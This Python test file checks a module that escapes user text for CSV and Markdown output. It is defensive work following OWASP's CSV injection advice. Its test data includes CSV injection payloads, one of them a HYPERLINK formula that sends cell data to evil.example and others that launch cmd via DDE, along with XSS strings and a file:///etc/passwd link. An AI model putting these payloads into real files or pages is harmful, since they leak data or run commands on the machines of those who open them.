"""CSV and Markdown escaping of user-provided text (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlops_scorecard.escaping import csv_cell, csv_row, is_web_link, md_escape, md_link

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Bo", "a=b", "0.50", "-3", "-0.25", "12", "' already quoted"])
def test_harmless_cells_stay(value: str) -> None:
    assert csv_cell(value) == value


def test_non_text_cells_stay() -> None:
    assert csv_row([1, 2.5, None, "=1"]) == [1, 2.5, None, "'=1"]


@given(st.text())
def test_no_cell_is_read_as_a_formula(value: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([value]))
    (cell,) = next(csv.reader(io.StringIO(out.getvalue())))
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(cell)  # only a plain number may start like a formula
    assert cell in (value, "'" + value)


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("<script>alert(1)</script>", "\\<script\\>alert(1)\\</script\\>"),
        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)\\>"),
        ("# Injected heading", "\\# Injected heading"),
        ("line\n# heading on a new line\n\n- item", "line \\# heading on a new line - item"),
        ("[click](javascript:alert(1))", "\\[click\\](javascript:alert(1))"),
        ("![x](javascript:alert(1))", "\\!\\[x\\](javascript:alert(1))"),
        ("<javascript:alert(1)>", "\\<javascript:alert(1)\\>"),
        ("&lt;b&gt;", "\\&lt;b\\&gt;"),
        ("- a list", "\\- a list"),
        ("1. a numbered item", "1\\. a numbered item"),
        ("~~~ fence", "\\~\\~\\~ fence"),
        ("> quote", "\\> quote"),
        ("plain text, 3-4 words", "plain text, 3-4 words"),
    ],
)
def test_markdown_escape(text: str, escaped: str) -> None:
    assert md_escape(text) == escaped


@given(st.text())
def test_markdown_escape_leaves_no_tag_link_or_new_line(text: str) -> None:
    out = md_escape(text)
    assert "\n" not in out
    assert "\r" not in out
    # every <, [ and # is escaped by a backslash that is not itself escaped
    i = 0
    while i < len(out):
        if out[i] == "\\":
            i += 2
            continue
        assert out[i] not in "<>[]#`&", (text, out)
        i += 1


def test_links_only_for_web_urls() -> None:
    assert md_link("https://ci.example/run/1") == "<https://ci.example/run/1>"
    for hostile in (
        "javascript:alert(1)",
        "data:text/html,<b>x</b>",
        "file:///etc/passwd",
        "https://x.org/a\\b",
    ):
        assert not is_web_link(hostile)
        assert not md_link(hostile).startswith("<")
